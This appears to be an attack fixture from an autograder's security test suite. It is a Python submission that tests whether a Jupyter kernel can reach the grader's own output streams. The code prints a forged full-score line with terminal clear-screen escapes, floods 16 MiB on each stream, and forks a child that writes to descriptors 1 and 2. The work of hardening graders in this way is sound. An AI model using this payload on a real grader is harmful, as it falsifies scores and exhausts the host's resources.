"""Write past every cap onto the grader's own standard output and error, from the kernel.

The kernel inherited otter's standard output and error: jupyter_client starts the kernelspec with
them, and the launcher passed them on. ipykernel sends what the kernel writes to its descriptors
1 and 2 as output messages (which the plugin caps), but it keeps a copy of each original to echo
to (``sys.stdout._original_stdstream_copy``), and a process the kernel forks writes to 1 and 2
directly. Before the kernel's streams led nowhere (2026-12-07, attack6), this kernel wrote a
clear-screen escape and a forged score line onto the terminal of a raw ``otter run``, and 128 MiB
(``RLIMIT_FSIZE``) into ``stdout.txt`` of its grading in the batch's temporary folder, which the
disk watch does not walk; a line with no end written on the standard error's copy was held whole
by the kernelspec's stderr filter, a process of the grader's with no limit (632 MB for 600 MiB).

This kernel writes the marker line and 16 MiB with no newline on each copy, and the marker from a
forked child on 1 and 2; it raises ``ATTACK-BREACH`` where a copy is anything but ``/dev/null``.
``tests/attacks/test_kernel_streams.py`` grades it with a raw ``otter run`` and looks at what
otter printed.

count_params is implemented correctly; the rest earns nothing.
"""

EXPECT = {"count_params": 1, "weight_shapes": 0, "extract_weights": 0, "manual_forward": 0,
          "batched_forward": 0, "sequence_forward": 0}

import os  # noqa: E402
import signal  # noqa: E402
import stat  # noqa: E402
import sys  # noqa: E402

MARKER = b"\x1b[2J\x1b[HKERNEL-RAW-STREAM Total Score: 9.000 / 9.000 (100.00%)\n"
FLOOD_MB = 16


def count_params(T, D, M, K):
    return int(D * M + M * M + M + M * K + K)


def _to_the_graders_streams() -> list[str]:
    """Write on ipykernel's copies of the kernel's original streams; say which are not /dev/null."""
    null = os.stat(os.devnull)
    reached = []
    for stream in (sys.stdout, sys.stderr):
        copy = getattr(stream, "_original_stdstream_copy", None)
        if copy is None:
            continue
        try:
            found = os.fstat(copy)
            os.write(copy, MARKER)
            for _ in range(FLOOD_MB):
                os.write(copy, b"z" * (1 << 20))
        except OSError:
            continue
        if not (stat.S_ISCHR(found.st_mode) and found.st_rdev == null.st_rdev):
            reached.append(f"descriptor {copy} ({stat.filemode(found.st_mode)})")
    pid = os.fork()
    if pid == 0:  # a child writes on 1 and 2 themselves, which ipykernel did not redirect for it
        try:
            os.write(1, MARKER)
            os.write(2, MARKER)
        finally:
            os.kill(os.getpid(), signal.SIGKILL)
    os.waitpid(pid, 0)
    return reached


if "ipykernel" in sys.modules:  # the kernel (the sealed runs do not load ipykernel)
    reached = _to_the_graders_streams()
    if reached:
        raise RuntimeError("ATTACK-BREACH the kernel wrote on the grader's own streams: " + ", ".join(reached))
